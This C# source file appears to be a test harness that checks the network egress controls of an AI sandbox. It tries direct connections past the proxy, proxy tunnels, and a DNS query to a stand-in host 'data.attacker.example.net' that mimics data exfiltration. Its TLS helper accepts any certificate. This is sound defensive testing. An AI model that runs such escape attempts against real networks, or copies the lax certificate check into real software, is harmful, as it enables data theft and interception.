using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;
using System.Text.Json;

namespace LlmOpsSecure.Attacks.Egress;

/// <summary>What a sandbox, or any other host of the world, tries. An answer says also what was reached, what the proxy's logs say, and whether packets were dropped.</summary>
internal sealed class SandboxCaller(EgressWorld world, string host, string className = "search")
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);

    // A dropped packet is not answered; every host of the world answers in less than a millisecond.
    private static readonly TimeSpan Silence = TimeSpan.FromMilliseconds(700);

    /// <summary>Connects past the proxy.</summary>
    public async Task<string> DirectAsync(string address, int port)
    {
        var (reached, dropped) = (world.Reached.Count, await world.DroppedAsync());
        using var socket = world.Socket(host);
        string answer;
        try
        {
            using var patience = new CancellationTokenSource(Silence);
            await socket.ConnectAsync(IPAddress.Parse(address), port, patience.Token);
            answer = "connected";
            for (var waited = 0; waited < 50 && world.Reached.Count == reached; waited++)
            {
                await Task.Delay(20); // a host takes a moment to say that it was reached
            }
        }
        catch (OperationCanceledException)
        {
            answer = "no answer";
        }
        catch (SocketException)
        {
            answer = "refused";
        }

        return await this.DroppedAsync(answer, reached, dropped);
    }

    /// <summary>Sends a datagram past the proxy.</summary>
    public async Task<string> DatagramAsync(string address, int port)
    {
        var (reached, dropped) = (world.Reached.Count, await world.DroppedAsync());
        using var socket = world.Socket(host, ProtocolType.Udp);
        await socket.SendToAsync(Resolver.Question("data.attacker.example.net"), new IPEndPoint(IPAddress.Parse(address), port));
        await Task.Delay(100);
        return await this.DroppedAsync("no answer", reached, dropped);
    }

    /// <summary>Asks the cluster's resolver.</summary>
    public async Task<string> ResolveAsync(string name)
    {
        using var socket = world.Socket(host, ProtocolType.Udp);
        using var patience = new CancellationTokenSource(Silence);
        var answer = new byte[512];
        try
        {
            await socket.ConnectAsync(IPAddress.Parse(EgressWorld.ResolverAddress), 53, patience.Token);
            await socket.SendAsync(Resolver.Question(name), patience.Token);
            await socket.ReceiveAsync(answer, patience.Token);
        }
        catch (OperationCanceledException)
        {
            return "no answer";
        }

        return (answer[3] & 15) switch { 0 => "answered", 3 => "no such name", 5 => "refused", var code => code.ToString(CultureInfo.InvariantCulture) };
    }

    /// <summary>Sends bytes to the class's proxy: the status of the answer.</summary>
    public Task<string> SendAsync(string bytes) => this.WatchAsync(async () =>
    {
        await using var stream = await this.ConnectAsync();
        await stream.WriteAsync(Encoding.Latin1.GetBytes(bytes));
        return Status(await Guard.RawCaller.HeadAsync(stream));
    });

    /// <summary>Opens a tunnel, speaks TLS in it for a name (the tunnel's if null), and asks for a path.</summary>
    public Task<string> TunnelAsync(string to, string? name = null, string path = "/", string headers = "") => this.WatchAsync(async () =>
    {
        await using var stream = await this.OpenAsync(to, headers);
        return stream is null ? this.refusal : await this.AskAsync(stream, name ?? to.Split(':')[0], path);
    });

    /// <summary>Opens a tunnel and writes bytes into it.</summary>
    public Task<string> InsideAsync(string to, byte[] bytes) => this.WatchAsync(async () =>
    {
        await using var stream = await this.OpenAsync(to);
        if (stream is null)
        {
            return this.refusal;
        }

        await stream.WriteAsync(bytes);
        return await stream.ReadAsync(new byte[1]) == 0 ? "closed" : "answered";
    });

    private string refusal = "";

    /// <summary>The tunnel, or null with the reason kept.</summary>
    public async Task<NetworkStream?> OpenAsync(string to, string headers = "")
    {
        var stream = await this.ConnectAsync();
        await stream.WriteAsync(Encoding.Latin1.GetBytes($"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n{headers}\r\n"));
        var status = Status(await Guard.RawCaller.HeadAsync(stream));
        if (status == "200")
        {
            return stream;
        }

        this.refusal = status;
        await stream.DisposeAsync();
        return null;
    }

    /// <summary>TLS in a tunnel; the caller closes it.</summary>
    public static async Task<SslStream> SecureAsync(Stream tunnel, string name)
    {
        var secure = new SslStream(tunnel, leaveInnerStreamOpen: true);
        using var patience = new CancellationTokenSource(Patience);
        await secure.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = name, RemoteCertificateValidationCallback = (_, presented, _, _) => presented is not null }, patience.Token);
        return secure;
    }

    /// <summary>Adds what was reached, and what the logs say, to what an attempt answers.</summary>
    public async Task<string> WatchAsync(Func<Task<string>> attempt)
    {
        var (reached, squid, gate) = (world.Reached.Count, this.Lines(world.Proxies[className].AccessLog).Count, this.Lines(world.Proxies[className].GateLog).Count);
        string answer;
        try
        {
            answer = await attempt();
        }
        catch (Exception error) when (error is IOException or SocketException)
        {
            answer = error.InnerException is SocketException { SocketErrorCode: SocketError.ConnectionRefused } || error is SocketException { SocketErrorCode: SocketError.ConnectionRefused } ? "refused" : "closed";
        }
        catch (AuthenticationException)
        {
            answer = "closed";
        }

        var places = world.Reached.Skip(reached).Distinct(StringComparer.Ordinal).ToList();
        var logged = await this.LoggedAsync(squid, gate);
        return $"{answer}{(places.Count == 0 ? "" : $", reached {string.Join(" and ", places)}")}{(logged.Count == 0 ? "" : $", logged {string.Join(" and ", logged)}")}";
    }

    private static string Status(string head) => head.StartsWith("HTTP/1.", StringComparison.Ordinal) ? head.Split(' ')[1] : "closed";

    private async Task<string> AskAsync(Stream tunnel, string name, string path)
    {
        await using var secure = await SecureAsync(tunnel, name);
        await secure.WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n"));
        var head = await Guard.RawCaller.HeadAsync(secure);
        return head.Split("location: ") is [_, var place] ? $"sent to {place.Split('\r')[0]}" : Status(head);
    }

    private async Task<NetworkStream> ConnectAsync()
    {
        var socket = world.Socket(host);
        using var patience = new CancellationTokenSource(Patience);
        await socket.ConnectAsync(IPAddress.Parse(world.Pods[$"proxy-{className}"].Address), 3128, patience.Token);
        return new(socket, ownsSocket: true);
    }

    private async Task<string> DroppedAsync(string answer, int reached, long dropped)
    {
        var places = world.Reached.Skip(reached).ToList();
        return (places.Count, await world.DroppedAsync() - dropped) switch
        {
            (0, > 0) => answer == "no answer" ? "dropped" : $"{answer}, dropped",
            (0, _) => answer,
            _ => $"{answer}, reached {string.Join(" and ", places)}",
        };
    }

    // A line is written when a connection has ended: each attempt has one of Squid's, or a refusal of the gate's.
    private async Task<IReadOnlyList<string>> LoggedAsync(int squid, int gate)
    {
        var said = new List<string>();
        for (var start = Stopwatch.GetTimestamp(); said.Count == 0 && Stopwatch.GetElapsedTime(start) < TimeSpan.FromSeconds(3);)
        {
            await Task.Delay(30);
            said = [.. this.Lines(world.Proxies[className].AccessLog).Skip(squid).Select(line => line.GetProperty("result").GetString()!), .. this.Lines(world.Proxies[className].GateLog).Skip(gate).Where(IsRefusal).Select(line => line.TryGetProperty("exit", out _) ? "exit PR" : "gate PR")];
        }

        return [.. said.Distinct(StringComparer.Ordinal)];
    }

    private static bool IsRefusal(JsonElement line) => line.GetProperty("end").GetString() == "PR";

    private List<JsonElement> Lines(string file)
    {
        using var reader = new StreamReader(new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite));
        return [.. reader.ReadToEnd().Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(line => line.StartsWith('{')).Select(Parse)];
    }

    private static JsonElement Parse(string line)
    {
        using var json = JsonDocument.Parse(line);
        return json.RootElement.Clone();
    }
}
